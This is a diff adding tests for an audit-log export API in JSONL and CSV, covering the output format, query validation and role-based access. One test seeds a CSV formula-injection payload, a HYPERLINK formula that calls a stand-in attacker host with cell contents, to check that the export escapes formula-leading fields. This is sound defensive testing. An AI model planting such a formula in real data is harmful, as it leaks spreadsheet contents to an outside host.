@@ -1,3 +1,5 @@
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
 import { mkdtempSync, rmSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -5,6 +7,9 @@ import type { FastifyRequest } from 'fastify';
 import { createAuditActivities } from '../../activities/audit-activities';
 import type { Principal } from '../../api/auth/access';
 import { appendAudit } from '../../db/audit-repo';
+import { exportLedger } from '../../db/audit-ledger';
+import { AUDIT_CSV_COLUMNS } from '../../services/audit/audit-export';
+import { seedAdmin } from '../support/identity';
 import type { AuditAction } from '../../protocol/audit-actions';
 import { withTransaction } from '../../db/pool';
 import { createFixedClock, ensureKeys, type Actor } from '../../protocol';
@@ -208,5 +213,95 @@ describe('who may read the audit', () => {
       const res = await anonymousApp.app.inject({ method: 'GET', url: '/v1/admin/audit', headers });
       expect(res.statusCode).toBe(401);
     }
+  });
+});
+
+/** Parses CSV with Python's csv module (an independent RFC 4180 reader), strict about quoting. */
+async function readCsvWithPython(text: string): Promise<string[][]> {
+  const child = spawn(
+    'python3',
+    [
+      '-c',
+      "import csv, io, json, sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline=''), strict=True))))",
+    ],
+    { stdio: ['pipe', 'pipe', 'inherit'] },
+  );
+  let out = '';
+  child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
+  child.stdin.end(text);
+  const [code] = (await once(child, 'close')) as [number];
+  if (code !== 0) throw new Error(`python3 csv exited ${code}`);
+  return JSON.parse(out) as string[][];
+}
+
+describe('GET /v1/admin/audit/export', () => {
+  // A customer names itself (or writes a reason) so that a spreadsheet opening the export runs it.
+  const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"open"),\r\nsecond "line"';
+  let hostileSeq: number;
+  let seeded: { id: string; email: string };
+
+  beforeAll(async () => {
+    seeded = await seedAdmin(db.pool, { email: 'robin@example.test', cheap: true });
+    await db.pool.query(`UPDATE admins SET display_name = '+Robin' WHERE id = $1`, [seeded.id]);
+    await withTransaction(db.pool, (tx) =>
+      appendAudit(tx, {
+        actor: { kind: 'admin', id: seeded.id },
+        action: 'license.suspended',
+        subject: { kind: 'license', id: 'lic_0' },
+        data: { reason: HOSTILE },
+      }),
+    );
+    // Rows are numbered when they are chained, at commit.
+    const { rows } = await db.pool.query<{ seq: string }>(
+      `SELECT max(seq) AS seq FROM audit_events WHERE action = 'license.suspended'`,
+    );
+    hostileSeq = Number(rows[0]!.seq);
+  });
+
+  it('JSONL is exactly the event lines of agentina audit export for the rows the filters match, in chain order', async () => {
+    const res = await get('/v1/admin/audit/export?format=jsonl&action=license.revoked', 'service');
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
+    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="agentina-audit-[0-9TZ-]+\.jsonl"$/);
+    const cli: string[] = [];
+    await exportLedger(db.pool, { seq: 1 }, (line) => void cli.push(line));
+    const want = cli.filter((l) => l.includes('"type":"event"') && l.includes('"action":"license.revoked"'));
+    expect(want).toHaveLength(5);
+    expect(res.body).toBe(want.map((l) => `${l}\n`).join(''));
+  });
+
+  it('CSV reads back through Python’s csv module with names, and no field starts a formula', async () => {
+    const res = await get('/v1/admin/audit/export?format=csv&subjectId=lic_0', 'admin');
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+    const rows = await readCsvWithPython(res.body);
+    expect(rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
+    const body = rows.slice(1);
+    const want = EVENTS.map((e, i) => ({ e, seq: i + 1 }))
+      .filter(({ e }) => e.subject.id === 'lic_0')
+      .map(({ seq }) => String(seq));
+    expect(body.map((r) => r[0])).toEqual([...want, String(hostileSeq)]);
+    const last = body[body.length - 1]!;
+    expect(last[4]).toBe(`'+Robin <robin@example.test>`);
+    expect(JSON.parse(last[9]!)).toEqual({ reason: HOSTILE });
+    for (const r of body) for (const field of r) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it.each([
+    '',
+    'format=xml',
+    'format=csv&cursor=3',
+    'format=csv&since=2026-03-02T00:00:00Z&until=2026-03-01T00:00:00Z',
+  ])('refuses a bad query with a 400 in the one error shape: %s', async (query) => {
+    const res = await get(`/v1/admin/audit/export?${query}`, 'admin');
+    expect(res.statusCode).toBe(400);
+    expect(res.json()).toMatchObject({ error: { code: 'VALIDATION_FAILED' } });
+  });
+
+  it.each([
+    ['customer', 403],
+    ['agent', 403],
+  ] as const)('%s → %i', async (who, status) => {
+    expect((await get('/v1/admin/audit/export?format=csv', who)).statusCode).toBe(status);
   });
 });
